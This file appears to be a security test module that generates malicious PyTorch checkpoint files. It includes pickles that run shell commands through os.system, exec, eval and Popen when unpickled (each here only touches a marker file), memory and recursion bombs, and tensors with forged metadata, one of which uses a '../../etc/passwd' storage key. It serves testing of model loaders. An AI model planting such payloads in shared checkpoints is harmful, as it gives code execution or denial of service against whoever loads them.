"""Checkpoints that attack whoever unpickles them.

`python -m tests.security.pickle_payloads DIR` writes each as a file, to try on other programs with care.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import zipfile
from pathlib import Path


class _Reduce:
    def __init__(self, *parts: object) -> None:
        self._parts = parts

    def __reduce__(self) -> tuple[object, ...]:
        return self._parts


def in_zip(data_pkl: bytes, storages: dict[str, bytes] | None = None) -> bytes:
    """A checkpoint as torch lays it out, with this pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        for key, data in (storages or {"0": bytes(64)}).items():
            archive.writestr(f"archive/data/{key}", data)
    return out.getvalue()


def tensor(key: bytes = b"0", numel: int = 16, tail: bytes = b"") -> bytes:
    """Opcodes that rebuild a float tensor of `numel` elements; `tail` replaces offset, size and stride."""
    shape = tail or b"K\x00" + _long(numel) + b"\x85" + b"K\x01\x85"
    storage = b"(X\x07\0\0\0storagectorch\nFloatStorage\nX" + struct.pack("<I", len(key)) + key + b"X\3\0\0\0cpu"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + _long(numel) + b"tQ" + shape + b"\x89)tR"


def _long(value: int) -> bytes:
    digits = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(digits)]) + digits


def executing(marker: Path) -> dict[str, bytes]:
    """Pickles that create `marker` when they are run."""
    import builtins
    import os

    touch = f"open({str(marker)!r}, 'w').close()"
    dump = {
        "os.system": _Reduce(os.system, (f"touch '{marker}'",)),
        "builtins.exec": _Reduce(builtins.exec, (touch,)),
        "builtins.eval": _Reduce(builtins.eval, (f"__import__('os').system({('touch ' + str(marker))!r})",)),
        "open": _Reduce(open, (str(marker), "w")),
        "import": _Reduce(getattr, (_Reduce(__import__, ("os",)), "system")),
        "state": _Reduce(dict, (), None, None, iter([("k", _Reduce(builtins.exec, (touch,)))])),
    }
    text = f"touch {marker}".encode()
    by_hand = {
        "getattr call": b"cbuiltins\ngetattr\n(cos\n__dict__\nVsystem\ntR(V" + text + b"\ntR.",
        "stack global": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(text)]) + text + b"\x85R.",
        "dotted global": b"\x80\x04\x8c\x08builtins\x8c\x0dstr.__class__\x93)R.",
        "inst": b"(V" + text + b"\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nV" + text + b"\no.",
        "newobj": b"\x80\x02csubprocess\nPopen\n]X\x05\0\0\0toucha" + b"\x85\x81.",
        "build on a global": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}X\x08\0\0\0__code__K\x01sb.",
        "persistent id": b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(text)) + text + b"\x85RQ.",
        "rebuild from type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nNX"
        + struct.pack("<I", len(text)) + text + b"\x85}tR.",
    }  # fmt: skip
    return {name: pickle.dumps(value, 2) for name, value in dump.items()} | by_hand


def exhausting() -> dict[str, bytes]:
    """Pickles that take a machine's memory, stack or time when they are believed."""
    deep = 1_000_000
    return {
        "nested tuples as key": b"\x80\x02}(" + b")" + b"\x85" * deep + b"K\x01u.",
        "nested lists": b"\x80\x02" + b"]" * deep + b"a" * (deep - 1) + b".",
        "nested dicts": b"\x80\x02" + b"}K\x00" * 500_000 + b"K\x01" + b"s" * 500_000 + b".",
        "marks": b"\x80\x02" + b"(" * deep + b".",
        "bytearray of 1 TB": b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x.",
        "bytes of 16 EB": b"\x80\x04\x8e" + struct.pack("<Q", (1 << 64) - 1) + b"x.",
        "string of 4 GB": b"\x80\x02X" + struct.pack("<I", 0xFFFFFFFF) + b"x.",
        "integer of 2 GB": b"\x80\x02\x8b" + struct.pack("<I", 0x7FFFFFFF) + b"x.",
        "integer as text": b"I" + b"9" * 1_000_000 + b"\n.",
        "memo index of 4 G": b"\x80\x02Kar" + struct.pack("<I", 0xFFFFFFFF) + b".",
        "frame of 16 EB": b"\x80\x04\x95" + struct.pack("<Q", (1 << 64) - 1) + b"N.",
        "billion laughs": b"\x80\x02" + b"]q\x00" + b"".join(
            b"](" + b"h" + bytes([n]) + (b"h" + bytes([n])) * 9 + b"eq" + bytes([n + 1]) for n in range(60)
        ) + b".",
        "doubled dicts": b"\x80\x02}K\x01K\x02sq\x00"
        + b"0ccollections\nOrderedDict\nh\x00\x85Rq\x00" * 100_000 + b"h\x00.",
        "doubled arguments": b"\x80\x02(" + b"K\x01" * 100_000 + b"tq\x000(" + b"cx\ny\nh\x00R" * 100_000 + b"t.",
        "joined names": b"\x80\x04X" + struct.pack("<I", 1 << 20) + b"m" * (1 << 20) + b"\x94"
        + b"h\x00h\x00\x93" * 10_000 + b".",
        "one tuple in many calls": b"\x80\x02(" + b"K\x01" * 100_000 + b"tq\x000("
        + b"ccollections\nOrderedDict\nh\x00R" * 50_000 + b"ctorch._utils\n_rebuild_tensor\nh\x00R" * 50_000 + b"t.",
        "contains itself": b"\x80\x02]q\x00h\x00a(h\x00h\x00e.",
        "more objects than the limit": b"\x80\x02(" + b"]" * 5_000_000 + b"t.",
        "extension code": b"\x80\x02\x82\x01.",
        "out of band buffer": b"\x80\x05\x97.",
    }  # fmt: skip


def lying() -> dict[str, bytes]:
    """Pickles whose tensors are not what their storages are."""
    return {
        "huge numel": b"\x80\x02" + tensor(numel=1 << 62) + b".",
        "negative numel": b"\x80\x02" + tensor(numel=-16) + b".",
        "huge size": b"\x80\x02" + tensor(tail=b"K\x00" + _long(1 << 62) * 3 + b"\x87" + b"K\x01K\x01K\x01\x87") + b".",
        "negative size": b"\x80\x02" + tensor(tail=b"K\x00" + _long(-16) + b"\x85" + b"K\x01\x85") + b".",
        "negative offset": b"\x80\x02" + tensor(tail=_long(-8) + b"K\x10\x85K\x01\x85") + b".",
        "size is no tuple": b"\x80\x02" + tensor(tail=b"K\x00" + b"]" + b"]") + b".",
        "stride of another length": b"\x80\x02" + tensor(tail=b"K\x00K\x10\x85)") + b".",
        "many dims": b"\x80\x02" + tensor(tail=b"K\x00(" + b"K\x01" * 5000 + b"t(" + b"K\x01" * 5000 + b"t") + b".",
        "missing storage": b"\x80\x02" + tensor(key=b"999") + b".",
        "storage outside": b"\x80\x02" + tensor(key=b"../../etc/passwd") + b".",
        "two dtypes": b"\x80\x02" + tensor() + tensor().replace(b"Float", b"Half") + b"\x86.",
        "unknown storage": b"\x80\x02" + tensor().replace(b"Float", b"Blob") + b".",
        "persistent id of text": b"Pstorage\n.",
        "long names": b"\x80\x02}X" + struct.pack("<I", 1 << 20) + b"k" * (1 << 20) + tensor() + b"s.",
    }


if __name__ == "__main__":
    target = Path(sys.argv[1])
    for name, data in (executing(target / "EXECUTED") | exhausting() | lying()).items():
        (target / f"{name}.pt").write_bytes(in_zip(data))
